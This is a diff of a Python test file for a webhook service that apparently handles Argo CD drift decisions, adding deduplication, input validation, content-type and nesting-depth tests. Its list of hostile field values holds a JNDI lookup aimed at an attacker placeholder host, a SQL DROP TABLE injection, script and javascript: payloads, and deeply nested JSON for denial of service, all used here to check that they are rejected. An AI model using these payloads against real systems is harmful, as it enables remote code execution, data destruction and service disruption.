@@ -139,14 +139,116 @@ async def test_same_application_while_open_joins_the_decision(env) -> None:
     assert other.json()["duplicate"] is False and other.json()["event_id"] not in ids
 
 
-async def test_a_final_decision_no_longer_dedups(env) -> None:
-    client, store, _ = env
+async def test_awaiting_approval_is_open_and_joins_the_same_revision(env) -> None:
+    client, store, accepted = env
     first = (await client.post(WEBHOOK, json=BODY, headers=bearer())).json()["event_id"]
     decision = await store.get(first)
     assert decision is not None
     await store.save(decision.model_copy(update={"state": DecisionState.AWAITING_APPROVAL}))
+    again = (await client.post(WEBHOOK, json=BODY, headers=bearer())).json()
+    assert again == {"event_id": first, "state": "awaiting_approval", "duplicate": True}
+    other_revision = (await client.post(WEBHOOK, json={**BODY, "revision": "9d1f7c2"}, headers=bearer())).json()
+    assert other_revision["duplicate"] is False and other_revision["event_id"] != first
+    assert len(accepted) == 2
+
+
+async def test_a_closed_decision_is_not_joined_at_intake(env) -> None:
+    client, store, accepted = env
+    first = (await client.post(WEBHOOK, json=BODY, headers=bearer())).json()["event_id"]
+    decision = await store.get(first)
+    assert decision is not None
+    await store.save(decision.model_copy(update={"state": DecisionState.DONE}))  # enforced: nothing pending
     second = (await client.post(WEBHOOK, json=BODY, headers=bearer())).json()
-    assert second["duplicate"] is False and second["event_id"] != first
+    # admission (tests/drift/test_open_decisions.py) reads the drift and joins it if it is the same
+    assert second["duplicate"] is False and second["event_id"] != first and len(accepted) == 2
+
+
+ABUSE = [
+    ({**BODY, "revision": "5f2c\x00e9"}, "revision"),
+    ({**BODY, "project": "prod\u202e"}, "project"),
+    ({**BODY, "appNamespace": "argocd\u200f"}, "appNamespace"),
+    ({**BODY, "revision": "${jndi:ldap://evil.example/a}"}, "revision"),
+    ({**BODY, "project": "prod'; DROP TABLE drift_decisions; --"}, "project"),
+    ({**BODY, "app": "payments-api\n"}, "app"),
+    ({**BODY, "app": "x" * 254}, "app"),
+    ({**BODY, "appNamespace": "Argo_CD"}, "appNamespace"),
+    ({**BODY, "revision": "main..evil"}, "revision"),
+    ({**BODY, "revision": "refs/heads/x.lock"}, "revision"),
+    ({**BODY, "syncStatus": "Deleted"}, "syncStatus"),
+    ({**BODY, "healthStatus": "<script>"}, "healthStatus"),
+    ({**BODY, "argocdUrl": "javascript:alert(1)"}, "argocdUrl"),
+    ({**BODY, "argocdUrl": "https://argocd\u202e.example"}, "argocdUrl"),
+    ({**BODY, "event": "on drift"}, "event"),
+    ({**BODY, "project": 7}, "project"),
+    ({**BODY, "app": None}, "app"),
+    ({**BODY, "revision": ["a"]}, "revision"),
+]
+
+
+@pytest.mark.parametrize(("body", "field"), ABUSE)
+async def test_hostile_field_values_are_422_naming_the_field_and_nothing_stored(env, body, field) -> None:
+    client, store, accepted = env
+    raw = json.dumps(body).replace("\\\\", "\\")  # keep the JSON escapes (NUL, bidi) as escapes
+    r = await client.post(WEBHOOK, content=raw, headers={**bearer(), "Content-Type": "application/json"})
+    assert r.status_code == 422, r.text
+    assert r.json()["field"] == field and f"`{field}`" in r.json()["error"]
+    assert r.text.isascii()  # whatever came in is escaped in the answer
+    assert await store.count() == 0 and accepted == []
+
+
+async def test_unpaired_surrogates_are_400_and_unknown_names_come_back_escaped(env) -> None:
+    client, store, _ = env
+    for raw in ('{"app": "a", "project": "p", "\\ud800\\u202e": 1}', '{"app": "a\\udfff", "project": "p"}'):
+        r = await client.post(WEBHOOK, content=raw, headers={**bearer(), "Content-Type": "application/json"})
+        assert r.status_code == 400 and "surrogate" in r.json()["error"], r.text
+    r = await client.post(WEBHOOK, json={**BODY, "x\u202e\n": 1}, headers=bearer())
+    assert r.status_code == 422 and r.json()["field"] == "x\\u202e\\n"
+    assert await store.count() == 0
+
+
+async def test_only_a_body_declared_json_is_read(env) -> None:
+    client, store, _ = env
+    for content_type in (None, "text/plain", "application/x-www-form-urlencoded", "application/json; charset=latin-1",
+                         "multipart/form-data"):
+        headers = bearer() if content_type is None else {**bearer(), "Content-Type": content_type}
+        r = await client.post(WEBHOOK, content=json.dumps(BODY), headers=headers)
+        assert r.status_code == 415 and "Content-Type" in r.json()["error"], content_type
+    assert await store.count() == 0
+    for content_type in ("application/json; charset=utf-8", "application/merge+json"):
+        r = await client.post(WEBHOOK, content=json.dumps(BODY), headers={**bearer(), "Content-Type": content_type})
+        assert r.status_code == 202, (content_type, r.text)
+
+
+async def test_deep_nesting_is_400_before_parsing(env) -> None:
+    client, store, _ = env
+    for raw in (b"[" * 1000 + b"]" * 1000, b'{"a":' * 300 + b"1" + b"}" * 300, b"[" * 2000,
+                b'{"app": "a", "project": "p", "x": ' + b"[" * 300 + b"]" * 300 + b"}"):
+        r = await client.post(WEBHOOK, content=raw, headers={**bearer(), "Content-Type": "application/json"})
+        assert r.status_code == 400 and "nests deeper" in r.json()["error"], raw[:40]
+    assert await store.count() == 0
+
+
+async def test_4kb_of_2000_levels_is_a_4xx_under_the_default_body_limit(tmp_path: Path) -> None:
+    config = make_config(tmp_path, max_body_bytes=DriftConfig.model_fields["max_body_bytes"].default)
+    store = EventStore(config.db_path)
+    await store.open()
+
+    async def on_accepted(d: Decision) -> None:
+        raise AssertionError("nothing may be accepted")
+
+    app = create_app(config, store, DriftMetrics(), on_accepted)
+    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://drift") as client:
+        for raw in (b"[" * 2000 + b"]" * 2000, b"{" * 4000, b'{"a":' * 800 + b"{}" + b"}" * 800):
+            r = await client.post(WEBHOOK, content=raw, headers={**bearer(), "Content-Type": "application/json"})
+            assert r.status_code == 400, (len(raw), r.status_code)
+    await store.close()
+
+
+async def test_brackets_inside_strings_are_not_nesting(env) -> None:
+    client, _, _ = env
+    body = {**BODY, "revision": '[{' * 40 + '\\"'}
+    r = await client.post(WEBHOOK, json=body, headers=bearer())
+    assert r.status_code == 422 and r.json()["field"] == "revision"  # parsed: the revision itself is refused
 
 
 async def test_decisions_api_needs_the_approvals_token_and_filters(env) -> None:
@@ -170,5 +272,8 @@ async def test_health_and_metrics_are_public(env) -> None:
     client, _, _ = env
     await client.post(WEBHOOK, json=BODY, headers=bearer())
     assert (await client.get("/healthz")).json()["ok"] is True
+    document = (await client.get("/openapi.json")).json()
+    assert set(document["paths"]) == {"/v1/webhooks/argocd", "/v1/decisions", "/v1/decisions/{event_id}",
+                                      "/v1/decisions/{event_id}/approve", "/v1/decisions/{event_id}/reject"}
     text = (await client.get("/metrics")).text
     assert 'driftwise_webhooks_total{outcome="202"} 1.0' in text
